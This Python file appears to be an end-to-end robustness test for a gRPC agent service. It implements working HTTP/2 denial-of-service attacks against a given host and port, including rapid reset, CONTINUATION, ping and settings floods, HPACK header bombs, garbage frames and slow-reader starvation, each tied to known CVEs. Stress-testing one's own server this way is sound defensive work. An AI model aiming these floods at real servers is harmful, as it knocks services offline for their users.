"""A client that means harm, in a process of its own: python attack.py NAME TARGET ... .

A target is `host:port`, `host:port,CA` or `host:port,CA,CERTIFICATE,KEY`: in plaintext,
over TLS, or with a certificate. Attacks are repeated on one after the other until stdin
ends; then stdout gets one JSON object, with what was sent.
"""

from __future__ import annotations

import json
import random
import select
import socket
import ssl
import sys
import time
from collections import Counter
from typing import TYPE_CHECKING, Self

from e2e.fuzz.http2 import (
    CANCEL,
    END_OF_HEADERS,
    END_OF_STREAM,
    MAX_FRAME_BYTES,
    PREFACE,
    Http2,
    Kind,
)
from kotaemon_grpc.pb.v2 import agent_pb2 as pb

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

ASK = b"/kotaemon.v2.AgentService/AskQuestion"
STREAM = "/kotaemon.v2.AgentService/StreamAnswer"
_PATIENCE_S = 2.0
_LEAST_PAUSE_S = 0.5
_PAUSES = 2.0  # so much longer than an attack: machines of two cores have others to serve
_STREAMS = 2_000
_FLOOD_FRAMES = 20_000
_BATCH = 200
_FLOOD_BYTES = 64 * 1024 * 1024
_BOMB_REFERENCES = 4_000  # to 4 KB each
_BOMBS = 4  # of a kind on a connection
_BOMB_FIELDS = 5_000
_BOMB_BYTES = 256 * 1024
_SLOW_STREAMS = 20  # of each of four connections
_SLOW_WINDOW_BYTES = 64
_dice = random.Random(1)  # noqa: S311 - no secret
sent: Counter[str] = Counter()


class Raw:
    """A connection on which anything can be sent."""

    def __init__(self, target: str, *, reads: bool = True, is_plain: bool = False) -> None:
        address, *files = target.split(",")
        host, _, port = address.rpartition(":")
        raw = socket.create_connection((host, int(port)), _PATIENCE_S)
        if files and not is_plain:
            raw = context_of(files).wrap_socket(raw, server_hostname="localhost")
        self._socket = raw
        self._reads = reads
        sent["connections"] += 1

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def begin(self) -> None:
        self.send(PREFACE + frame(Kind.SETTINGS, 0, 0, b""))

    def send(self, data: bytes, frames: int = 1) -> None:
        """Send, and take what comes meanwhile, or nothing of it."""
        self._socket.sendall(data)
        sent["frames"] += frames
        sent["bytes"] += len(data)
        while self._reads and select.select([self._socket], [], [], 0)[0]:
            if not self._socket.recv(1 << 16):
                raise ConnectionResetError("the server closed the connection")


def context_of(files: list[str]) -> ssl.SSLContext:
    ca, *own = files
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    if own:
        context.load_cert_chain(*own)
    return context


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def integer(number: int, bits: int, first: int = 0) -> bytes:
    """Encode an integer behind the first bits of its octet (RFC 7541, section 5.1)."""
    most = (1 << bits) - 1
    if number < most:
        return bytes([first | number])
    number -= most
    rest = b""
    while number > 0x7F:
        rest += bytes([number & 0x7F | 0x80])
        number >>= 7
    return bytes([first | most]) + rest + bytes([number])


def literal(name: bytes, value: bytes, first: int = 0) -> bytes:
    """Encode a field (RFC 7541, section 6.2); a first octet of 0x40 has it remembered."""
    return bytes([first]) + b"".join(integer(len(text), 7) + text for text in (name, value))


def request(*further: bytes) -> bytes:
    """Encode the head of a call, and more fields."""
    fields = {
        b":method": b"POST",
        b":scheme": b"https",
        b":path": ASK,
        b":authority": b"localhost",
        b"te": b"trailers",
        b"content-type": b"application/grpc",
    }
    return b"".join((*(literal(name, value) for name, value in fields.items()), *further))


def headers(stream: int, block: bytes, flags: int = 0) -> bytes:
    """Frame a block, in as many frames as it needs."""
    parts = [block[at : at + MAX_FRAME_BYTES] for at in range(0, len(block), MAX_FRAME_BYTES)]
    last = len(parts) - 1
    return b"".join(
        frame(
            Kind.CONTINUATION if at else Kind.HEADERS,
            (0 if at else flags) | (END_OF_HEADERS if at == last else 0),
            stream,
            part,
        )
        for at, part in enumerate(parts)
    )


def rapid_reset(target: str, *, reads: bool) -> None:
    """Begin whole calls and cancel each at once (CVE-2023-44487)."""
    message = pb.AskQuestionRequest(question="ask 0").SerializeToString()
    data = b"\0" + len(message).to_bytes(4, "big") + message
    block, cancel = request(), CANCEL.to_bytes(4, "big")
    with Raw(target, reads=reads) as raw:
        raw.begin()
        for first in range(1, 2 * _STREAMS, 2 * _BATCH):
            calls = [
                headers(stream, block)
                + frame(Kind.DATA, END_OF_STREAM, stream, data)
                + frame(Kind.RST_STREAM, 0, stream, cancel)
                for stream in range(first, first + 2 * _BATCH, 2)
            ]
            raw.send(b"".join(calls), 3 * _BATCH)


def continuation_flood(target: str, *, reads: bool) -> None:
    """Send a head that never ends (CVE-2024-27316)."""
    field = literal(b"x", b"y" * (MAX_FRAME_BYTES - 100))
    more = frame(Kind.CONTINUATION, 0, 1, field)
    with Raw(target, reads=reads) as raw:
        raw.begin()
        raw.send(frame(Kind.HEADERS, 0, 1, request()))
        for _ in range(_FLOOD_BYTES // len(more)):
            raw.send(more)


def ping_flood(target: str, *, reads: bool) -> None:
    """Ask for more answers than anybody reads (CVE-2019-9512)."""
    _flood(target, frame(Kind.PING, 0, 0, bytes(8)), reads=reads)


def settings_flood(target: str, *, reads: bool) -> None:
    """Change one's mind all the time (CVE-2019-9515)."""
    size = (4).to_bytes(2, "big") + (65_535).to_bytes(4, "big")
    _flood(target, frame(Kind.SETTINGS, 0, 0, size), reads=reads)


def _flood(target: str, one: bytes, *, reads: bool) -> None:
    with Raw(target, reads=reads) as raw:
        raw.begin()
        for _ in range(_FLOOD_FRAMES // _BATCH):
            raw.send(one * _BATCH, _BATCH)


def header_bomb(target: str, *, reads: bool) -> None:
    """Send heads that are larger than they look, larger than is taken, and in many parts."""
    large = literal(b"x-bomb", b"b" * 4_000, first=0x40)  # remembered as the first of its table
    references = integer(62, 7, 0x80) * _BOMB_REFERENCES
    fields = b"".join(literal(b"x-%d" % number, b"y") for number in range(_BOMB_FIELDS))
    for bomb in (large + references, literal(b"x-large", b"z" * _BOMB_BYTES), fields):
        with Raw(target, reads=reads) as raw:
            raw.begin()
            for stream in range(1, 2 * _BOMBS, 2):
                raw.send(headers(stream, request(bomb), END_OF_STREAM))


def garbage(target: str, *, reads: bool) -> None:
    """Send noise: in the place of TLS, of HTTP/2, and in frames that look like some."""
    with Raw(target, reads=reads, is_plain=True) as raw:
        raw.send(_dice.randbytes(10_000))
    with Raw(target, reads=reads) as raw:
        raw.send(_dice.randbytes(10_000))
    for _ in range(5):
        with Raw(target, reads=reads) as raw:
            raw.begin()
            for _ in range(100):
                payload = _dice.randbytes(_dice.randrange(200))
                stream = _dice.choice([0, 1, 2, 3, 2**31 - 1])
                raw.send(frame(_dice.randrange(12), _dice.randrange(256), stream, payload))


def slow_reader(target: str, **_: bool) -> None:
    """Ask for answers without an end, and take next to nothing of them."""
    address, *files = target.split(",")
    message = pb.StreamAnswerRequest(question="flood 0").SerializeToString()
    connections = [
        Http2(address, context_of(files), window_bytes=_SLOW_WINDOW_BYTES) for _ in range(4)
    ]
    for connection in connections:
        sent["connections"] += 1
        for _ in range(_SLOW_STREAMS):
            connection.send(connection.begin(STREAM), message)
            sent["frames"] += 2
    _wait_for_the_end(_SLOW_S)
    for connection in connections:
        connection.close()


_SLOW_S = 8.0
_ATTACKS: dict[str, Callable[..., None]] = {
    each.__name__: each
    for each in (
        rapid_reset,
        continuation_flood,
        ping_flood,
        settings_flood,
        header_bomb,
        garbage,
        slow_reader,
    )
}


def _wait_for_the_end(limit_s: float) -> bool:
    """Tell whether stdin has ended, as it does within a time."""
    return bool(select.select([sys.stdin], [], [], limit_s)[0])


def _rounds(attack: Callable[..., None], targets: Iterable[str]) -> None:
    while True:
        for target in targets:
            for reads in (True, False):
                began_s = time.monotonic()
                try:
                    attack(target, reads=reads)
                    sent["whole"] += 1
                except TimeoutError:
                    sent["stuck"] += 1  # the server takes no more on that connection
                except OSError:
                    sent["refused"] += 1  # it closed the connection
                took_s = time.monotonic() - began_s
                if _wait_for_the_end(max(took_s * _PAUSES, _LEAST_PAUSE_S)):
                    return


def main() -> None:
    name, *targets = sys.argv[1:]
    began_s = time.monotonic()
    _rounds(_ATTACKS[name], targets)
    sys.stdout.write(json.dumps({**sent, "seconds": round(time.monotonic() - began_s, 1)}) + "\n")


if __name__ == "__main__":
    main()
